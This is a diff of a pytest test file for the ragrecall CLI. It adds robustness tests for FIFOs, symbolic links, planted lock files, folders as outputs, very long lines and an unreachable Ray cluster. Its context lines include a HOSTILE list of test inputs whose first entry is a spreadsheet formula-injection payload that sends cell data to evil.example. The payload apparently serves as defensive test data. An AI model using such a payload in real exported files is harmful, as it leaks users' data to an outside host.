@@ -5,10 +5,18 @@ and bad input never exits 5 ("a bug in ragrecall")."""
 
 from __future__ import annotations
 
+import contextlib
 import csv
+import importlib.util
 import json
+import os
 import random
+import socket
+import subprocess
+import sys
 import tempfile
+import threading
+import time
 import unicodedata
 from pathlib import Path
 from typing import Any
@@ -20,6 +28,8 @@ from ragrecall import ContextRecall, calibrate
 from ragrecall.calibration import CalibrationProfile, Label, read_labels
 from ragrecall.cli import main
 from ragrecall.prompts import PROMPT_VERSION
+
+ROOT = Path(__file__).resolve().parents[3]
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -641,3 +651,152 @@ def test_a_full_disk_mid_run_exits_6_naming_the_file_and_the_run_resumes(
     assert f"could not write {out}: File too large" in err and "internal error" not in err
     assert main(["eval", str(data), *judge, "--out", str(out)]) == 0
     assert len(out.read_text().splitlines()) == 30
+
+
+# --- issue 43: pipes, links, locks, folders, a long line, a Ray cluster not there ----------
+
+
+def refused(code: int, said: str, *named: str) -> str:
+    """``said`` on one line, after checking the exit is the table's 2 (bad usage or input; see
+    docs/cli.md), never 5, with no traceback, and that it names each of ``named``."""
+    flat = " ".join(said.split())
+    assert code == 2, flat
+    assert "Traceback" not in said and "internal error" not in said, said
+    for name in named:
+        assert name in flat, flat
+    return flat
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+@pytest.mark.parametrize("command", ["eval", "claims", "review", "compare", "calibrate"])
+def test_a_fifo_given_as_a_file_is_refused_at_once_naming_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
+) -> None:
+    fifo = tmp_path / "pipe.jsonl"
+    os.mkfifo(fifo)
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    argv = {
+        "eval": ["eval", str(fifo), *judge, "--out", str(tmp_path / "o.jsonl")],
+        "claims": ["claims", str(fifo), *judge, "--out", str(tmp_path / "c.jsonl")],
+        "review": ["review", str(fifo), "--out", str(tmp_path / "review")],
+        "compare": ["compare", str(fifo), str(data)],
+        "calibrate": ["calibrate", str(fifo), "--out", str(tmp_path / "cal.json")],
+    }[command]
+
+    def unblock() -> None:  # a reader stuck opening the FIFO gets its end of file: no hang
+        with contextlib.suppress(OSError):
+            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
+
+    timer = threading.Timer(10, unblock)
+    timer.start()
+    started = time.monotonic()
+    try:
+        code = main(argv)
+    finally:
+        timer.cancel()
+    assert time.monotonic() - started < 10, "the FIFO was opened and waited on"
+    said = refused(code, capsys.readouterr().err, "pipe.jsonl")
+    assert "pipe" in said
+
+
+def test_a_link_as_the_data_file_is_read_through_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
+    link = tmp_path / "link.jsonl"
+    link.symlink_to(data)  # inputs are read through links; only outputs refuse them
+    out = tmp_path / "out.jsonl"
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    assert main(["eval", str(link), *judge, "--no-progress", "--out", str(out)]) == 0
+    assert "Traceback" not in capsys.readouterr().err
+    assert len(out.read_text().splitlines()) == 2
+
+
+@pytest.mark.parametrize("flag", ["--out", "--report"])
+@pytest.mark.parametrize("dangling", [False, True], ids=["to-a-file", "dangling"])
+def test_an_output_given_as_a_link_is_refused_naming_the_option(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: str, dangling: bool
+) -> None:
+    target = tmp_path / "target.txt"
+    if not dangling:
+        target.write_text("keep me")
+    link = tmp_path / "link.out"
+    link.symlink_to(target)
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    code = main(["eval", str(data), *judge, flag, str(link)])
+    said = refused(code, capsys.readouterr().err, f"{flag} {link}")
+    assert "symbolic link" in said
+    assert (target.read_text() == "keep me") if not dangling else not target.exists()
+
+
+@pytest.mark.parametrize("planted", ["link", "folder"])
+def test_a_lock_planted_beside_the_results_file_is_refused_naming_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], planted: str
+) -> None:
+    out = tmp_path / "OUT.jsonl"
+    lock = tmp_path / "OUT.jsonl.lock"
+    elsewhere = tmp_path / "elsewhere.txt"
+    if planted == "link":
+        lock.symlink_to(elsewhere)
+    else:
+        lock.mkdir()
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    code = main(["eval", str(data), *judge, "--out", str(out)])
+    refused(code, capsys.readouterr().err, str(lock), "--out")
+    assert not elsewhere.exists() and not out.exists()
+
+
+@pytest.mark.parametrize("flag", ["--out", "--report"])
+def test_a_folder_given_as_an_output_file_is_refused_naming_the_option(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: str
+) -> None:
+    folder = tmp_path / "folder"
+    folder.mkdir()
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    code = main(["eval", str(data), *judge, flag, str(folder)])
+    said = refused(code, capsys.readouterr().err, f"{flag} {folder}")
+    assert "directory" in said
+    assert list(folder.iterdir()) == []
+
+
+def test_a_reference_of_one_1_mb_line_is_scored(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # the 30 MB line: tests/system/test_endless_line.py; one of prose: tests/unit/metrics/
+    # test_long_line.py (its sentence splitting, about 6 s a MB)
+    reference = "x" * 1_000_000  # no sentence end, no space: one line, one claim
+    row = {"question": "q", "reference": reference, "contexts": ["x" * 1000]}
+    data = write_jsonl(tmp_path / "data.jsonl", [row])
+    out = tmp_path / "out.jsonl"
+    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
+    started = time.monotonic()
+    code = main(["eval", str(data), *judge, "--no-progress", "--out", str(out)])
+    took = time.monotonic() - started
+    assert code == 0 and "Traceback" not in capsys.readouterr().err
+    assert len(out.read_text().splitlines()) == 1
+    assert took < 30, f"{took:.1f} s for 1 MB (under 1 s when linear)"
+
+
+@pytest.mark.skipif(importlib.util.find_spec("ray") is None, reason="ray is not installed")
+def test_a_ray_address_where_nothing_listens_is_exit_2_at_once(tmp_path: Path) -> None:
+    """The CLI in a process of its own (Ray's state stays out of this one): about 3 s, most of
+    it importing Ray. The local cluster that cannot start: tests/system/test_ray_unreachable.py
+    (it starts Ray)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        address = f"127.0.0.1:{s.getsockname()[1]}"  # closed again: nothing listens there
+    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(1))
+    env = {k: v for k, v in os.environ.items() if k != "RAY_ADDRESS"}
+    env["PYTHONPATH"] = os.pathsep.join([str(ROOT / "testkit"), env.get("PYTHONPATH", "")])
+    argv = [sys.executable, "-m", "ragrecall.cli", "eval", str(data), "--engine", "ray"]
+    argv += ["--address", address, "--judge-factory", "fakes:ScriptedJudge"]
+    argv += ["--claim-mode", "sentences", "--no-progress", "--out", str(tmp_path / "out")]
+    started = time.monotonic()
+    done = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
+    assert time.monotonic() - started < 30
+    said = refused(done.returncode, done.stderr, address, "--address")
+    assert "could not be reached" in said
